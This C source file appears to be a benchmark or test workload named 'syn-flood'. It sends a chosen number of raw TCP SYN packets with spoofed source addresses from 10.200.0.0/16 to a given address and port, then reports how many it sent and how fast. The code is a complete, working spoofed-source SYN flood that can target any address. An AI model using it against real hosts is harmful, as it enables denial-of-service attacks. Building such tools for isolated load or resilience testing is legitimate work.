// SYNs from senders that do not exist: 10.200.0.0/16, each of them only once in 65,536. Needs a network namespace of its own.
//
//   syn-flood ADDRESS PORT N
//
// Prints {"sent":N,"seconds":S}.
#include "workload.h"

#include <netinet/ip.h>
#include <time.h>

#define SENDERS 0x0ac80000u

struct packet {
  struct iphdr ip;
  struct tcphdr tcp;
};

/** What TCP sums up besides itself. */
struct pseudo {
  uint32_t from, to;
  uint16_t protocol, length;
  struct tcphdr tcp;
};

static uint16_t checksum(const void *data, size_t bytes) {
  uint16_t words[32];
  uint32_t sum = 0;
  memcpy(words, data, bytes);
  for (size_t i = 0; i < bytes / 2; i++) sum += words[i];
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}

static struct packet syn(long i, uint32_t to, uint16_t port) {
  struct packet p = {
      .ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .daddr = to},
      .tcp = {.source = htons((uint16_t)(1024 + i % 60000)), .dest = port, .doff = 5, .syn = 1, .window = 0xffff},
  };
  p.ip.saddr = htonl(SENDERS + (uint32_t)(i % 65536));
  p.tcp.seq = (uint32_t)(i * 2654435761u);
  struct pseudo all = {p.ip.saddr, to, htons(IPPROTO_TCP), htons(sizeof p.tcp), p.tcp};
  p.tcp.check = checksum(&all, sizeof all);
  return p;
}

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
  bound_life();
  struct sockaddr_in to = {.sin_family = AF_INET};
  if (argc != 4 || !inet_pton(AF_INET, argv[1], &to.sin_addr))
    return fprintf(stderr, "usage: syn-flood ADDRESS PORT N\n"), 2;
  uint16_t port = htons((uint16_t)number(argv[2]));
  long count = number(argv[3]), sent = 0;
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) die("a raw socket");
  double begin = now();
  for (long i = 0; i < count; i++) {
    struct packet p = syn(i, to.sin_addr.s_addr, port);
    sent += sendto(fd, &p, sizeof p, 0, (struct sockaddr *)&to, sizeof to) == sizeof p;
  }
  printf("{\"sent\":%ld,\"seconds\":%.6f}\n", sent, now() - begin);
  return 0;
}
